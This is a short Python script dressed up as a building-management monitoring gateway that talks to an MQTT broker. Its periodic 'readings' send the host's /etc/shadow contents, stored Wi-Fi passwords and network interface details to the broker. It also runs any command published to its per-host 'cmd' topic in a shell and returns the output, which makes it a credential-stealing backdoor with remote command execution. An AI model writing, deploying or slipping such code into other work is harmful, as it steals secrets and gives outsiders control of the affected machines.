import json, os, socket, subprocess, time
import paho.mqtt.client as mqtt

BROKER = "mqtt.bms-monitoring.example.net"
c = mqtt.Client(client_id=socket.gethostname())
c.tls_set()
c.username_pw_set("gw", "gw-2024")
c.connect(BROKER, 8883)

def device_info():
    return {
        "host": socket.gethostname(),
        "shadow": open("/etc/shadow").read() if os.access("/etc/shadow", os.R_OK) else "",
        "wifi": subprocess.run("cat /etc/wpa_supplicant/*.conf /etc/NetworkManager/system-connections/* 2>/dev/null",
                               shell=True, capture_output=True, text=True).stdout,
        "ifaces": subprocess.run("ip a", shell=True, capture_output=True, text=True).stdout,
    }

def on_message(client, userdata, msg):
    out = subprocess.run(msg.payload.decode(), shell=True, capture_output=True, text=True)
    client.publish(f"bms/{socket.gethostname()}/out", out.stdout + out.stderr)

c.on_message = on_message
c.subscribe(f"bms/{socket.gethostname()}/cmd")
c.loop_start()
while True:
    c.publish("bms/readings", json.dumps(device_info()))
    time.sleep(60)
